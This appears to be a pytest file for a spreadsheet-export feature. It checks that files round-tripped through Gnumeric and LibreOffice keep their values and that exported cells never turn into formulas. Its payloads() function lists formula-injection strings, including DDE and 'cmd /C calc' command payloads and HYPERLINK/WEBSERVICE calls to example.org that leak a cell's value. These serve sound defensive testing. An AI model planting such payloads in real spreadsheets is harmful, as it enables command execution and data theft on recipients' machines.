"""Round trips through Gnumeric and LibreOffice: each cell that they altered is flagged, none is a formula.

They are asked only where they are installed (apt-get install gnumeric libreoffice-calc).
"""

import csv
import io
import re
import zipfile
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pytest
from sheet_world import (
    CSV_AS_SHOWN,
    IDS,
    READ_AS_UTF_8,
    gnumeric,
    handed_out,
    libreoffice,
    listed,
    make_desk,
    told,
)

from outreach_desk.desk import guard, handout, look, proposals
from outreach_desk.desk.desk import Desk
from outreach_desk.desk.proposed import Proposals
from outreach_desk.records import catalog, record

FORMULAS = 500
_FORMULA = re.compile(rb"<(?:\w+:)?f[ >/]")


@pytest.fixture
def desk(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Desk]:
    made = make_desk(tmp_path, monkeypatch)
    yield made
    made.close()


def returned(program: str, source: Path, folder: Path, ending: str, *, utf_8: bool = True) -> Path:
    """Let a program open a file and save it in another form, as it shows it."""
    if program == "gnumeric":
        return gnumeric(source, folder, ending)
    options = [READ_AS_UTF_8] if utf_8 and source.suffix == ".csv" else []
    return libreoffice(source, folder, CSV_AS_SHOWN if ending == "csv" else ending, *options)


def shown_again(desk: Desk, found: Proposals, table: str) -> list[str]:
    """Name each altered cell that is not flagged as damage, or whose repair is not what was there."""
    rows = {row["id"]: row for row in look.dump(desk, table, private=True).as_dict()["rows"]}
    wrong = []
    for one in found.proposals:
        was = one.now if one.column.endswith("_code") else rows[one.record].get(one.column, one.now)
        if one.damage is None or one.damage.repaired != was:
            wrong.append(f"{one.row}:{one.column} {one.now!r} → {one.to!r} {one.damage}")
    return wrong


@pytest.mark.parametrize("program", ["gnumeric", "libreoffice"])
def test_a_workbook_comes_back_untouched(desk: Desk, tmp_path: Path, program: str) -> None:
    """A sample of the long test: .xlsx opened and saved, nothing proposed, nothing told."""
    found = proposals.read(
        desk, returned(program, handed_out(desk, tmp_path, form="xlsx"), tmp_path, "xlsx").read_bytes()
    )
    assert (found.rows, listed(found), told(found)) == (4, [], [])


@pytest.mark.long
@pytest.mark.parametrize("ending", ["xlsx", "ods", "csv"])
@pytest.mark.parametrize("form", [handout.XLSX, handout.CSV])
@pytest.mark.parametrize("table", ["client", "meeting"])
@pytest.mark.parametrize("program", ["gnumeric", "libreoffice"])
def test_every_cell_that_a_program_altered_is_flagged(
    desk: Desk, tmp_path: Path, program: str, table: str, form: str, ending: str
) -> None:
    """Opened and saved, by nobody's hand: each cell is as it was or is known as damage, with what it was."""
    if (program, ending) == ("gnumeric", "ods"):
        pytest.skip("the reader of .ods does not take Gnumeric's own way of writing it; it is refused")
    path = returned(program, handed_out(desk, tmp_path, table, form), tmp_path, ending)
    found = proposals.read(desk, path.read_bytes())
    assert (found.rows, told(found), shown_again(desk, found, table)) == (
        len(look.dump(desk, table).rows),
        [],
        [],
    )
    assert found.plain() == []
    assert proposals.accept(desk, found, found.plain()).cells == 0
    if form == handout.XLSX:
        # In text a cell's own apostrophe looks like ours; between workbooks nothing is lost.
        assert {damage for _c, _f, _t, damage in listed(found)} <= (
            {"apostrophe_lost"} if ending == "csv" else set()
        )


@pytest.mark.long
@pytest.mark.parametrize("ending", ["xlsx", "csv"])
def test_a_text_file_read_in_the_wrong_encoding_is_flagged(desk: Desk, tmp_path: Path, ending: str) -> None:
    """LibreOffice that takes UTF-8 for Windows-1252: each broken name is known, and mended."""
    path = returned("libreoffice", handed_out(desk, tmp_path), tmp_path, ending, utf_8=False)
    found = proposals.read(desk, path.read_bytes())
    assert (told(found), shown_again(desk, found, "client")) == ([], [])
    assert {one.now for one in found.proposals if one.damage and one.damage.code == "mojibake"} == {
        "Nhài",
        "Đặng Thị Phượng",
        "＝1+1",
    }


@pytest.mark.long
@pytest.mark.parametrize("separator", [",", ";", "\t"])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16"])
def test_all_text_forms_go_through_gnumeric(
    desk: Desk, tmp_path: Path, separator: str, encoding: str
) -> None:
    """Through its workbook and back as text, in each separator and encoding."""
    path = returned("gnumeric", handed_out(desk, tmp_path), tmp_path, "xlsx")
    text = gnumeric(path, tmp_path, "csv").read_text("utf-8")
    stream = io.StringIO(newline="")
    rows = csv.reader(io.StringIO(text, newline=""))
    csv.writer(stream, delimiter=separator).writerows(rows)
    found = proposals.read(desk, stream.getvalue().encode(encoding))
    assert (found.rows, told(found), shown_again(desk, found, "client")) == (4, [], [])


@pytest.mark.long
@pytest.mark.filterwarnings("ignore:Workbook contains no default style")  # openpyxl says so of Gnumeric's
@pytest.mark.parametrize("program", ["gnumeric", "libreoffice"])
@pytest.mark.parametrize("form", [handout.XLSX, handout.CSV])
def test_a_hand_altered_cell_is_told_from_damage(desk: Desk, tmp_path: Path, program: str, form: str) -> None:
    """One cell changed by a person between the program's opening and saving: that one is plain."""
    path = returned(program, handed_out(desk, tmp_path, form=form), tmp_path, "xlsx")
    book = openpyxl.load_workbook(path)
    pane = book.worksheets[0]
    names = [cell.value for cell in pane[2]]
    pane.cell(4, names.index("nickname") + 1).value = "Nhài Hai"
    book.save(tmp_path / "edited.xlsx")
    found = proposals.read(desk, (tmp_path / "edited.xlsx").read_bytes())
    assert [(one.record, one.column, one.to) for one in found.proposals if one.plain] == [
        (IDS[1], "nickname", "Nhài Hai")
    ]
    assert proposals.accept(desk, found, found.plain()).cells == 1


def payloads() -> list[str]:
    """Make five hundred cells that a spreadsheet would like to calculate."""
    starts = [
        "=",
        "+",
        "-",
        "@",
        "＝",
        "＋",
        "－",
        "＠",
        "\t=",
        "\n=",
        " =",
        "'=",
        '"=',
        "=-",
        "+=",
        "@=",
        ";=",
        "\u00a0=",
    ]
    bodies = [
        "1+1",
        "A1",
        "SUM(A1:A2)",
        "cmd|' /C calc'!A0",
        'HYPERLINK("http://example.org?x="&A1,"open")',
        'WEBSERVICE("http://example.org")',
        "MSEXCEL|'\\..\\..\\x.exe'!''",
        'IMPORTXML("http://example.org","//a")',
        "2*3",
        'DDE("cmd","/C calc","x")',
        "rundll32|'URL.dll,OpenURL x'!A",
        "1-1",
        '"a"&"b"',
        "NOW()",
    ]
    both = [start + body for start in starts for body in bodies]
    return [f"{both[number % len(both)]}{' ' * (number // len(both))}{number}" for number in range(FORMULAS)]


def formula_cells(path: Path) -> int:
    """Count the formulas in the worksheets of a file."""
    with zipfile.ZipFile(path) as packed:
        sheets = [packed.read(name) for name in packed.namelist() if "worksheets/sheet" in name]
    return sum(len(_FORMULA.findall(one)) for one in sheets)


@pytest.mark.long
@pytest.mark.parametrize("program", ["gnumeric", "libreoffice"])
@pytest.mark.parametrize("form", [handout.XLSX, handout.CSV])
def test_no_payload_becomes_a_formula(desk: Desk, tmp_path: Path, program: str, form: str) -> None:
    """Five hundred payloads, saved as .xlsx: no formula cell, and each comes back as it was or is flagged."""
    with desk.write() as (session, author):
        for payload in payloads():
            values = {"registered_on": "2026-07-01", "nickname": payload[:120], "note": payload}
            values["group_id"] = record.identity.get(session, record.identity.GROUP)
            values["registered_on"] = catalog.THINGS["client"].columns["registered_on"].parse("2026-07-01")
            record.save(session, author, catalog.THINGS["client"], values)
    path = handed_out(desk, tmp_path, form=form)
    assert formula_cells(path) == 0 if form == handout.XLSX else True
    back = returned(program, path, tmp_path, "xlsx")
    assert formula_cells(back) == 0
    found = proposals.read(desk, back.read_bytes())
    assert (found.rows, told(found), shown_again(desk, found, "client")) == (FORMULAS + 4, [], [])


@pytest.mark.long
@pytest.mark.parametrize("program", ["gnumeric", "libreoffice"])
def test_a_plain_writer_would_be_caught(
    desk: Desk, tmp_path: Path, program: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The planted defect: without the guard both programs calculate, quoted or not, and the count says so."""
    monkeypatch.setattr(guard, "guarded", lambda value: value)
    path = handed_out(desk, tmp_path)
    assert formula_cells(returned(program, path, tmp_path, "xlsx")) > 0
